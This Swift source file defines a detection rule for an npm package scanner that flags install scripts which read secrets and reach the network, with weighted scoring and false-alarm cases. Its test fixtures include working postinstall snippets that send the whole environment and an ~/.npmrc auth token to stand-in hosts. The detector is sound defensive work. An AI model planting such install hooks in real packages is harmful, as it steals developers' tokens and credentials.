// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// What runs at install reads keys, or the whole environment, and reaches the network.
package struct InstallSendsSecrets: Rule {
    package init() {}

    package let card = RuleCard(
        id: "install-sends-secrets", kind: .content, title: "Install reads secrets and reaches the network", severity: .critical,
        confidence: .medium, status: .stable, revision: 2, group: "install-behaviour",
        rationale:
            "Read, encode, send: crossenv sent the environment, eslint-scope the npm token, nx keys and wallets. An installer has no business with any of them.",
        knownFalseAlarms: ["An installer that honours the proxy or token of .npmrc for its own download."],
        references: ["https://blog.npmjs.org/post/163723642530/crossenv-malware-on-the-npm-registry"],
        fires: [
            RuleSample(
                "the whole environment",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
                    "setup.js":
                        "const http = require('http'); const data = Buffer.from(JSON.stringify(process.env)).toString('base64'); http.request({host:'collect.test', method:'POST'}).end(data);",
                ])),
            RuleSample(
                "tokens, split over two files",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node a.js"}}"#,
                    "a.js": "const t = require('./b').read(); require('https').request({host:'c.test'}).end(t);",
                    "b.js":
                        "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "downloads its binary",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"install":"node i.js"}}"#,
                    "i.js": "const p = process.env.HTTPS_PROXY; require('https').get('https://a.example/bin');",
                ])),
            RuleSample(
                "an npm tool, not at install",
                .sample(["package.json": #"{"name":"a","version":"1.0.0"}"#, "i.js": "require('https'); read('.npmrc')._authToken"])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let signs = facts.installSigns
        guard !signs.isDisjoint(with: .network) else { return [] }
        let kinds: [(sign: Sign, words: String, weight: Double)] = [
            (.wholeEnvironment, "the whole environment", 0.7), (.npmCredential, "npm credentials", 0.6), (.npmConfiguration, ".npmrc", 0.4),
            (.developerCredential, "developer keys", 0.6), (.wallet, "wallets", 0.3),
        ]
        let found = kinds.filter { signs.contains($0.sign) }
        // `.npmrc` holds settings too, and words of wallets stand in certificate tools: by themselves they count only where
        // the same file reaches the network.
        let isTelling = found.contains { kind in
            switch kind.sign {
            case .wallet: false
            case .npmConfiguration:
                facts.nearInstallFiles.contains { file in
                    Sign.reachingNetwork.contains { file.scan?.chain([.npmConfiguration, $0]) == true }
                }
            default: true
            }
        }
        guard isTelling else { return [] }
        let strength = found.reduce(0) { $0 + $1.weight } + (signs.contains(.decodes) || signs.contains(.encodes) ? 0.2 : 0)
        return [
            card.finding(
                "Install reads \(PlainWords.list(found.map(\.words))) and reaches the network", strength: strength,
                evidence: facts.installEvidence(found.map(\.sign) + Sign.reachingNetwork + [.encodes]),
                meaning: "Whoever installed it should take those secrets for known to others.")
        ]
    }
}

extension Sign {
    static let reachingNetwork: [Sign] = [.networkModule, .networkCall, .shellDownload]
}
